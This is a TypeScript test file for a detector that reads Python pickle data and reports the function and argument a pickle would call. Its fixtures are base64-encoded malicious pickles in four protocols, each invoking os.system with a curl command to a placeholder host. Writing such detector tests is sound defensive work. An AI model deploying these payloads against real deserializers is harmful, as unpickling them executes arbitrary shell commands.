import { expect, test } from 'vitest';
import { revivedCall } from './revived-call.ts';

const bytes = (base64: string) => Buffer.from(base64, 'base64').toString('latin1');

// As Python 3.11 writes an object whose __reduce__ is (os.system, ("curl https://a.example/x",)).
test.each([
  [0, 'Y3Bvc2l4CnN5c3RlbQpwMAooVmN1cmwgaHR0cHM6Ly9hLmV4YW1wbGUveApwMQp0cDIKUnAzCi4='],
  [1, 'Y3Bvc2l4CnN5c3RlbQpxAChYGAAAAGN1cmwgaHR0cHM6Ly9hLmV4YW1wbGUveHEBdHECUnEDLg=='],
  [2, 'gAJjcG9zaXgKc3lzdGVtCnEAWBgAAABjdXJsIGh0dHBzOi8vYS5leGFtcGxlL3hxAYVxAlJxAy4='],
  [4, 'gASVMwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjBhjdXJsIGh0dHBzOi8vYS5leGFtcGxlL3iUhZRSlC4='],
])('protocol %i names a function and its text', (_, data) => {
  expect(revivedCall(bytes(data))).toEqual({ path: 'os.system', argument: 'curl https://a.example/x' });
});

test.each([
  ['a dictionary', 'gASVEAAAAAAAAAB9lIwBYZSMBXN5c3RllHMu'],
  ['nothing', ''],
  ['text', Buffer.from('Call posix, then system, then X and S.').toString('base64')],
])('%s calls nothing', (_, data) => expect(revivedCall(bytes(data))).toBeNull());
